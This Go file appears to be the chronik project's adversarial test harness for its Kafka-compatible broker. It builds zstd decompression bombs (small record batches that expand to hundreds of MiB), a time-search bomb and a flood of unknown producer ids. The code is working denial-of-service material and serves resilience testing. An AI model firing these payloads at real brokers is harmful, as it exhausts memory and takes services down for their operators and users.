package hostile

import (
	"context"
	"encoding/binary"
	"hash/crc32"
	"time"

	"github.com/twmb/franz-go/pkg/kmsg"

	"github.com/chronik-io/chronik/internal/record"
)

// inflated is the decompressed size of a bomb in bytes.
const inflated = 250 << 20

// recordAttacks send record batches.
func recordAttacks() []Attack {
	bombs := func(window byte, block int) func(context.Context, *Attacker) error {
		return func(ctx context.Context, m *Attacker) error { return bombard(ctx, m, bomb(window, block, inflated)) }
	}
	return []Attack{
		{
			Name: "bombs-in-small-frames", Aim: "one connection sends zstd batches of 8 kB that become 250 MiB",
			Holds: some, Keeps: some, prepare: victimTopic,
			run: bombs(0x38, 128<<10),
		},
		{
			Name:  "bombs-with-wide-windows",
			Aim:   "the same with windows of 128 MiB, the largest that a broker with 1 GiB of memory accepts",
			Holds: some, Keeps: some, prepare: victimTopic,
			run: bombs(0x88, 128<<10),
		},
		{
			Name:  "bombs-that-pass",
			Aim:   "20 connections send zstd batches of 10 kB that become 80 MiB, with windows of 8 MiB, which every broker accepts",
			Holds: budget, Keeps: some, prepare: victimTopic,
			run: func(ctx context.Context, m *Attacker) error {
				req := produceOf(victim, 1, lateBomb())
				return m.again(ctx, m.connections(20), func(c *Conn, _, _ int) error {
					resp, err := c.Ask(req)
					if err == nil {
						m.note(codeName(resp.(*kmsg.ProduceResponse).Topics[0].Partitions[0].ErrorCode))
					}
					return err
				})
			},
		},
		{
			Name: "times-in-bombs", Aim: "100 clients search by time in a zstd batch of 10 kB that becomes 80 MiB",
			Holds: budget, Keeps: some, Part: 30, prepare: timedBomb,
			run: func(ctx context.Context, m *Attacker) error {
				req := listRepeated(1)
				req.Topics[0].Partitions[0].Timestamp = time.Now().Add(bombTime / 2).UnixMilli()
				request := frame(req)
				return m.again(ctx, m.connections(100), func(c *Conn, _, _ int) error { return c.burst(request, 1) })
			},
		},
		{
			Name: "bombs-in-large-frames", Aim: "zstd batches of 65 kB that become 250 MiB",
			Holds: some, Keeps: some, prepare: victimTopic,
			run: bombs(0x38, 16000),
		},
		{
			Name: "producer-ids", Aim: "20,000 producer ids write one record each, and request further ids with InitProducerId",
			Holds: some, Keeps: some, Part: 10, prepare: victimTopic,
			run: func(ctx context.Context, m *Attacker) error {
				each := m.some(20_000) / 4
				return m.once(ctx, 4, func(c *Conn, i int) error {
					for n := range each {
						if err := c.strange(m, int64(i*each+n)); err != nil {
							return err
						}
					}
					return nil
				})
			},
		},
	}
}

const victim = "victim"

func victimTopic(_ context.Context, c *Conn, _ *Attacker) error { return c.makeTopic(victim, 1) }

// strange writes a record with an unknown producer id, after requesting an id that it does not use.
func (c *Conn) strange(m *Attacker, id int64) error {
	ask := kmsg.NewPtrInitProducerIDRequest()
	ask.Version = 3
	resp, err := c.Ask(ask)
	if err != nil {
		return err
	}
	m.note(codeName(resp.(*kmsg.InitProducerIDResponse).ErrorCode))
	b := record.NewBuilder(record.BatchOptions{Producer: &record.Producer{ID: 1_000_000 + id}})
	b.Append(time.Now().UnixMilli(), nil, []byte("x"), nil)
	batch, err := b.Build()
	if err != nil {
		return err
	}
	return c.produce(m, batch)
}

// produce writes batches to the victim and notes the outcome.
func (c *Conn) produce(m *Attacker, batches []byte) error {
	resp, err := c.Ask(produceOf(victim, 1, batches))
	if err == nil {
		m.note(codeName(resp.(*kmsg.ProduceResponse).Topics[0].Partitions[0].ErrorCode))
	}
	return err
}

// bombard sends a small batch, so that the broker treats the connection as a small producer's, and
// then bombs, four in flight.
func bombard(ctx context.Context, m *Attacker, batch []byte) error {
	const bombs = 4
	b := record.NewBuilder(record.BatchOptions{})
	b.Append(time.Now().UnixMilli(), nil, []byte("x"), nil)
	plain, err := b.Build()
	if err != nil {
		return err
	}
	req := produceOf(victim, 1, batch)
	return m.again(ctx, 1, func(c *Conn, _, _ int) error {
		if err := c.produce(m, plain); err != nil {
			return err
		}
		for range bombs {
			if err := c.Request(req); err != nil {
				return err
			}
		}
		c.correlation -= bombs
		for range bombs {
			c.correlation++
			resp, err := c.answer(req)
			if err != nil {
				return err
			}
			m.note(codeName(resp.(*kmsg.ProduceResponse).Topics[0].Partitions[0].ErrorCode))
		}
		return nil
	})
}

// bomb returns a batch of one record of size zeros, compressed with zstd (RFC 8878) into run-length
// blocks.
func bomb(window byte, block, size int) []byte {
	body := append([]byte{0, 0, 0}, binary.AppendVarint([]byte{1}, int64(size))...) // attributes, deltas, no key (-1), a value
	head := append(binary.AppendVarint(nil, int64(len(body)+size+1)), body...)
	z := []byte{0x28, 0xb5, 0x2f, 0xfd, 0, window}
	z = appendBlock(z, len(head), 0)
	z = append(z, head...)
	for left := size + 1; left > 0; { // and no headers, which is another zero
		n := min(left, block)
		kind := uint32(2)
		if left -= n; left == 0 {
			kind |= 1
		}
		z = append(appendBlock(z, n, kind), 0)
	}
	return zstdBatch(z, 1, 0)
}

// timedBomb creates the victim and writes a lateBomb to it.
func timedBomb(_ context.Context, c *Conn, _ *Attacker) error {
	if err := c.makeTopic(victim, 1); err != nil {
		return err
	}
	resp, err := c.Ask(produceOf(victim, 1, lateBomb()))
	if err == nil {
		err = produced(resp)
	}
	return err
}

// bombTime is how much later than all others the last record of lateBomb is.
const bombTime = time.Hour

// lateBomb returns a batch of 80 records of 1 MiB in a window of 8 MiB. A search for the latest
// record must decompress all of it.
func lateBomb() []byte {
	const records, size = 80, 1 << 20
	z := []byte{0x28, 0xb5, 0x2f, 0xfd, 0, 0x68}
	for i := range records {
		var later int64
		if i == records-1 {
			later = bombTime.Milliseconds()
		}
		body := binary.AppendVarint(binary.AppendVarint([]byte{0}, later), int64(i))
		body = binary.AppendVarint(append(body, 1), size)
		head := append(binary.AppendVarint(nil, int64(len(body)+size+1)), body...)
		z = append(appendBlock(z, len(head), 0), head...)
		for range size / (128 << 10) {
			z = append(appendBlock(z, 128<<10, 2), 0)
		}
		kind := uint32(2)
		if i == records-1 {
			kind |= 1
		}
		z = append(appendBlock(z, 1, kind), 0)
	}
	return zstdBatch(z, records, bombTime)
}

// appendBlock appends the header of a block: kind 0 is raw, 2 repeats one byte, and 1 more is the
// last.
func appendBlock(z []byte, size int, kind uint32) []byte {
	h := uint32(size)<<3 | kind
	return append(z, byte(h), byte(h>>8), byte(h>>16))
}

// zstdBatch returns a batch that claims to hold so many records compressed with zstd in payload.
// Their timestamps span later.
func zstdBatch(payload []byte, records int, later time.Duration) []byte {
	now := time.Now()
	tail := binary.BigEndian.AppendUint16(nil, uint16(record.Zstd))
	tail = binary.BigEndian.AppendUint32(tail, uint32(records-1)) // last offset delta
	tail = binary.BigEndian.AppendUint64(tail, uint64(now.UnixMilli()))
	tail = binary.BigEndian.AppendUint64(tail, uint64(now.Add(later).UnixMilli()))
	tail = append(tail, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff) // no producer
	tail = append(binary.BigEndian.AppendUint32(tail, uint32(records)), payload...)
	batch := binary.BigEndian.AppendUint64(nil, 0)
	batch = binary.BigEndian.AppendUint32(batch, uint32(4+1+4+len(tail)))
	batch = append(batch, 0, 0, 0, 0, 2)
	batch = binary.BigEndian.AppendUint32(batch, crc32.Checksum(tail, crc32.MakeTable(crc32.Castagnoli)))
	return append(batch, tail...)
}
